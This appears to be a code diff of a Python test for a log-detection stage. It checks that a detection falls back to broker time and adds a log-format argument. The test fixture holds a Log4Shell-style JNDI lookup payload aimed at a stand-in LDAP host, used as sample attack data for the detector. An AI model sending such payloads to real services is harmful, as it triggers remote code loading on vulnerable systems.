@@ -99,7 +99,7 @@ def test_block_of_one_format_counts_clean_lines_without_parsing_them() -> None:
 def test_detection_uses_broker_time_when_the_log_has_none() -> None:
     line = b'{"source": {"ip": "198.51.100.7"}, "user_agent": {"original": "${jndi:ldap://c.example/z}"}}'
     stage = DetectStage(Settings())
-    out = stage.process([RawRecord(line, "t/0", 5, broker_time=1639303200.0)])
+    out = stage.process([RawRecord(line, "t/0", 5, broker_time=1639303200.0, format="ecs")])
     (detection,) = out.detections
     assert (detection.timestamp, detection.timestamp_source) == (1639303200.0, "broker")
     assert out.by_stream["t/0"]["timestamp_fallbacks"] == 1
